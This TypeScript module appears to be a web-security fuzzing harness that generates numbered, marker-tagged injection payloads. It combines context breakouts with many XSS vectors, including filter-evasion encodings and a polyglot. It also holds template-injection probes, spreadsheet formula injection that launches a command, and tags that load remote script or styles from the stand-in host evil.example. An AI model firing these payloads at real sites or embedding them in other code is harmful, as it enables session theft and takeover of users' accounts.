/**
 * Texts that would run as a script, or ask another machine for something, wherever a page takes them for
 * more than text: ways out of where the text stands, times what would then run, times ways to write it.
 */

/** One text. */
export interface Payload {
  readonly number: number;
  readonly text: string;
}

/** The word that says which text it is: it stands at the end of each, and in what it calls. */
export const markOf = (number: number): string => `xp${number}x`;

/** The numbers of the texts whose word stands somewhere. */
export function marksIn(text: string): Set<number> {
  return new Set([...text.matchAll(/xp(\d+)x/gi)].map(([, number]) => Number(number)));
}

/** Ways out of an element's text, an attribute, a comment, a script, a style, a template. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '` ',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</select></option>',
  '</noscript>',
  '-->',
  ']]>',
  '\\"',
  '&quot;>',
  '%22%3E',
  '}}',
] as const;

/** What would run once outside; `RUN` becomes the call. */
const VECTORS = [
  '<script>RUN</script>',
  '<script src=//evil.example/NN></script>',
  '<img src=x onerror=RUN>',
  '<img src=//evil.example/NN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>',
  '<math><mi href=javascript:RUN>x</mi></math>',
  '<body onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>x</details>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src=javascript:parent.RUN></iframe>',
  '<object data=javascript:RUN></object>',
  '<embed src=//evil.example/NN>',
  '<a href=javascript:RUN>x</a>',
  '<form action=javascript:RUN><button autofocus>x</button></form>',
  '<button formaction=javascript:RUN>x</button>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<link rel=stylesheet href=//evil.example/NN>',
  '<style>@import "//evil.example/NN";</style>',
  '<p style="background:url(//evil.example/NN)">x</p>',
  '<style>*{animation:a}@keyframes a{}</style><p onanimationstart=RUN>x</p>',
  'onfocus=RUN autofocus tabindex=1 x=',
  'onmouseover=RUN style=position:fixed;inset:0 x=',
  'javascript:RUN',
  'javascript://%0aRUN',
  'data:text/html,<script>parent.RUN</script>',
  'vbscript:RUN',
  ';RUN;//',
  "'-RUN-'",
  '${RUN}',
  '{{7*7}}{{range.constructor("RUN")()}}',
  '{% for n in [7] %}{{n*7}}{% endfor %}{% include "x" %}',
  '{{ "x" | safe }}{{ caller() }}',
  '<%= 7*7 %>#{7*7}',
  '=cmd|" /C calc"!A0',
  '+HYPERLINK("http://evil.example/NN","x")',
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '%3Cscript%3ERUN%3C/script%3E',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
  '<\u017Fcript>RUN</\u017Fcript>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */RUN)//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=RUN//>',
] as const;

/** Ways to write the same. */
const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${mixed(tag)}`),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => `\u202E${text.replaceAll('javascript:', 'java\tscript:')}`,
  (text) => text.replaceAll('<', '<\u200B<'),
];

/** So many texts, each different, in an order that brings early all kinds of each part. */
export function payloads(count: number): Payload[] {
  const all = BREAKOUTS.length * VECTORS.length * WRITINGS.length;
  if (count > all) throw new RangeError(`There are ${all}`);
  return Array.from({ length: count }, (_, number) => {
    // The strides are prime to the whole, so each combination comes once.
    const place = (number * STRIDE) % all;
    const breakout = BREAKOUTS[place % BREAKOUTS.length] ?? '';
    const vector = VECTORS[Math.floor(place / BREAKOUTS.length) % VECTORS.length] ?? '';
    const write = WRITINGS[Math.floor(place / (BREAKOUTS.length * VECTORS.length))] ?? String;
    const text = write(`${breakout}${vector}`)
      .replaceAll('RUN', `ran(${number})`)
      .replaceAll('NN', String(number));
    return { number, text: `${text} ${markOf(number)}` };
  });
}

const STRIDE = 997;

function mixed(tag: string): string {
  return tag.replace(/.(.)?/g, (pair, second: string | undefined) =>
    second === undefined ? pair.toUpperCase() : `${pair.charAt(0).toUpperCase()}${second}`,
  );
}
